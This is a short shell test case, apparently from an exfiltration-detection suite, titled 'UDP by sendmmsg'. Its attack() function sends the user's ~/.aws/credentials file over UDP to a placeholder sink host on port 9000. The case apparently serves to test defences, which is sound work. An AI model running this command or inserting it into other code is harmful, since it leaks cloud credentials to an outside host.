# SPDX-License-Identifier: Apache-2.0
TITLE="UDP by sendmmsg"
ROW="N08"
attack() { "$PROVOKE/datagram" many "$HOME/.aws/credentials" "$SINK4" 9000; }
